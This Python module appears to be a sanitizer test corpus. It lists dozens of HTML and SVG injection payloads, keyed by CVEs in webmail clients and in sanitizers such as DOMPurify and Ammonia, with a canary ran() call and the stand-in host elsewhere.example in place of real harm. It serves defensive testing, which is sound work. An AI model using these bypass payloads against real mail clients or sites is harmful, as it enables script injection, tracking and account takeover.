"""HTML with which web mail programs and cleaners were broken into, by the case that was published.

`ran()` is what each tries to call; `elsewhere.example` is what it tries to load from. The markup is written after the
descriptions of the cases, with the trick of each, and with our canary in the place of what harmed.
"""

from __future__ import annotations

import base64

SVG = base64.b64encode(
    b'<svg id="x" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<image href="x" onerror="ran()"/></svg>'
).decode()
PIXEL = "https://elsewhere.example/pixel.gif"

HOSTILE = {
    # -- Roundcube
    "CVE-2015-8864, CVE-2016-4068, SVG with links": '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href='
    '"javascript:ran()"><rect width=9 height=9 /></a><set attributeName="onmouseover" to="ran()"/></svg>',
    "CVE-2016-4552, area": '<img usemap="#m"><map name="m"><area shape="default" href="javascript:ran()"></map>',
    "CVE-2017-6820, tokens of a sheet in SVG": "<svg><style>/*]]></style><img src=x onerror=ran()>*/</style></svg>",
    "CVE-2018-19206, style in SVG": "<svg><style></svg><body onload=ran()></style></svg><body onload=ran()>",
    "CVE-2020-12625, CDATA": "<p><![CDATA[<img src=x onerror=ran()>]]></p>",
    "CVE-2020-13965, XML that is shown": '<x xmlns="http://www.w3.org/1999/xhtml"><script>ran()</script></x>',
    "CVE-2020-16145, SVG with a namespace": '<svg xmlns="svg"><![CDATA[><script>ran()</script>]]></svg>',
    "CVE-2020-18671, foreign namespace": '<svg><g xmlns="javascript:ran()"><a href="javascript:ran()">x</a></g></svg>',
    "CVE-2020-35730, link reference": 'http://x.example?[<script>ran()</script>](https://"onerror="ran())',
    "CVE-2021-44025, no media type": '<object data="x.svg" type=""><img src=x onerror=ran()></object>',
    "CVE-2023-5631, SVG use": f'<svg><use href="data:image/svg+xml;base64,{SVG}#x"/></svg>',
    "CVE-2023-5631, broken base64": f'<svg id=x><use href="data:image/s vg+xml;base64,###{SVG}#x"/></svg>',
    "CVE-2023-43770, link in a text": '<a href="https://x.example/<script>ran()</script>">https://x.example</a>'
    "[https://x.example](<script>ran()</script>)",
    "CVE-2023-47272, preview": '<img src="data:image/svg+xml,<svg onload=ran() xmlns=http://www.w3.org/2000/svg>">',
    "CVE-2024-37383, SVG animate": '<svg><animate attributeName="href " values="javascript:ran()" href="#l"/>'
    '<a id="l"><text x="9" y="9">go</text></a></svg>',
    "CVE-2024-42008, attachment shown": '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"></svg>',
    "CVE-2024-42009, title as bgcolor": '<body title="bgcolor=x" name="bar style=animation-name:progress-bar-stripes'
    ' onanimationstart=ran() x=y">Hello</body>',
    "CVE-2024-42010, style sheet": f"<style>@im\\port url({PIXEL});p{{background:u\\72l({PIXEL})}}</style><p>x</p>",
    "CVE-2025-68461, SVG animate by": '<svg><a><animate attributeName="xlink:href" by="javascript:ran()" dur="1s"/>'
    "<text>x</text></a></svg>",
    "CVE-2026-25916, feImage": f'<svg><filter id=f><feImage href="{PIXEL}"/></filter><rect filter="url(#f)"/></svg>',
    "CVE-2026-48843, style sheet of the inside": '<link rel=stylesheet href="http://127.0.0.1:1/x.css"><p>x</p>',
    # -- SnappyMail, RainLoop
    "CVE-2022-29360, attribute of a comment": '<p data-x="--><img src=x onerror=ran()>">x</p><!-- " -->',
    "CVE-2024-45800, style in a table in math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    "CVE-2024-45800, frameset in a select": '<select><template><frameset><frame src="javascript:ran()"></frameset>'
    "</template></select>",
    "CVE-2024-45800, noembed": "<noembed><p title='</noembed><img src=x onerror=ran()>'></noembed>",
    "attribute in backquotes": '<img src="x` `<script>ran()</script>"` `onerror=ran()>',
    # -- Zimbra, Horde, Proton, Tutanota
    "CVE-2022-24682, attribute": '<img alt="x" title=\'"><svg onload=ran()>\' src=x>',
    "CVE-2024-27443, calendar": '<span data-x="&quot;&gt;&lt;img src=x onerror=ran()&gt;">x</span>',
    "CVE-2025-27915, details ontoggle": "<details ontoggle=ran() open><summary>x</summary></details>",
    "CVE-2025-66376, import in a sheet": f"<style>@import '{PIXEL}'; @@import url({PIXEL});</style><p>x</p>",
    "Proton 2022, style in SVG": "<svg><style><a title='</style></svg><proton-svg><img src=x onerror=ran()>'>",
    # -- DOMPurify, Bleach, Ammonia
    "CVE-2019-16728, svg in p in style": '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    "CVE-2020-26870, math and mglyph": "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea>"
    "<img onerror=ran() src=1>'>",
    "CVE-2020-26870, form in form": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="ran()">',
    "CVE-2020-6802, noscript": '<noscript><style></noscript><img src=x onerror="ran()">',
    "CVE-2020-6816, math style": "<math></p><style><!--</style><img src/onerror=ran()>",
    "CVE-2021-23980, comment in title": "<math></p>"
    "<title><!--</title><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    "CVE-2021-38193, foreign content": "<svg><desc><table><td><mtext><style><img src=x onerror=ran()></style>",
    "CVE-2024-45801, depth": "<div>" * 300
    + "<svg><style><a title='</style><img src=x onerror=ran()>'>"
    + "</div>" * 300,
    "CVE-2024-47875, depth and tables": "<table><caption>" * 260
    + "<svg><style><b id='</style><img src onerror=ran()>'>",
    "CVE-2025-26791, template literal": "<math><foo-test><mi><li><table><foo-test><li></li></foo-test>"
    "<a><style><! \\${</style>}<foo-b id='><img src onerror=ran()>'>hmm</foo-b></a></table>"
    "</li></mi></foo-test></math>",
    "RUSTSEC-2021-0074, annotation-xml": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()>'
    "</style></annotation-xml></math>",
    "RUSTSEC-2022-0003, comment end": "<!--!> <img src=x onerror=ran()> --!><img src=x onerror=ran()>-->",
    "RUSTSEC-2025-0071, noframes in math": "<svg><noframes><p title='</noframes><img src=x onerror=ran()>'></svg>",
    # -- of no case: what each browser has
    "focus": "<p tabindex=0 autofocus contenteditable onfocus=ran()>x</p><button popovertarget=y onclick=ran()>x"
    "</button><p id=y popover onbeforetoggle=ran()>y</p><a href=# accesskey=x onclick=ran()>x</a>",
    "XML": f'<?xml-stylesheet href="{PIXEL}" type="text/xsl"?><!DOCTYPE x [<!ENTITY y SYSTEM "{PIXEL}">]><x>&y;</x>'
    f'<xml src="{PIXEL}" id=d></xml><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{PIXEL}"/></x>',
    "pings and hints": f'<a href="https://x.example" ping="{PIXEL}" attributionsrc="{PIXEL}">x</a><link'
    f' rel=dns-prefetch href="{PIXEL}"><link rel=preload as=image href="{PIXEL}"><body background="{PIXEL}">'
    f'<img lowsrc="{PIXEL}" dynsrc="{PIXEL}" longdesc="{PIXEL}"><q cite="{PIXEL}">x</q>'
    "<script type=speculationrules>{}</script>",
    "fonts and counters": f"<style>@font-face{{font-family:x;src:url({PIXEL})}}p{{font-family:x}}@counter-style y"
    f"{{system:cyclic;symbols:url({PIXEL})}}@property --z{{syntax:'<image>';inherits:true;initial-value:url({PIXEL})}}"
    f"@supports(x:y){{p{{mask:url({PIXEL})}}}}p{{shape-outside:element(#x);filter:src('{PIXEL}')}}</style><p>x</p>",
    "entities in a scheme": '<a href="&#x6A;ava&Tab;script&colon;ran()">x</a><a href="\x01javascript:ran()">x</a>',
    "data as a link": '<a href="data:text/html,<script>ran()</script>">x</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={PIXEL}">x',
    "base": '<base href="https://elsewhere.example/"><img src="pixel.gif"><a href="/x">x</a>',
    "srcset, poster, background": f'<img srcset="{PIXEL} 2x"><video poster="{PIXEL}"></video>'
    f'<table background="{PIXEL}"><tr><td background="{PIXEL}">x</table><input type=image src="{PIXEL}">'
    f'<link rel=prefetch href="{PIXEL}"><audio src="{PIXEL}" autoplay></audio>'
    f'<picture><source srcset="{PIXEL}"></picture>',
    "url in a style": f'<p style="background:url({PIXEL})">x</p><p style="background:ur/**/l({PIXEL})">x</p>'
    f'<p style="background:image-set(\'{PIXEL}\' 1x)">x</p><p style="content:\\75rl({PIXEL})">x</p>'
    f'<ul style="list-style-image:url({PIXEL})"><li>x</ul><p style="--a:url({PIXEL});cursor:var(--a)">x</p>',
    "sheet that ends early": "<style></style\x0c><img src=x onerror=ran()></style><style>x{}</sty</style>"
    "<style>a{content:'</style ><img src=x onerror=ran()>'}</style>",
    "clobbering": '<form id=body><input name=parentNode></form><img name=getElementById><a id=text href="cid:x">x</a>',
    "leaves its frame": '<a href="https://elsewhere.example/" target="_top">x</a>'
    '<iframe src="javascript:parent.ran()">',
    "the frame's own element": '</div></body></html><div id="letter"><script>ran()</script></div><p id="text">x</p>',
}
# What stands in a field of a header, or in the name of a file.
IN_WORDS = "\"'><img class=evil src=https://elsewhere.example/x onerror=ran()><script>ran()</script>{{7*7}}"
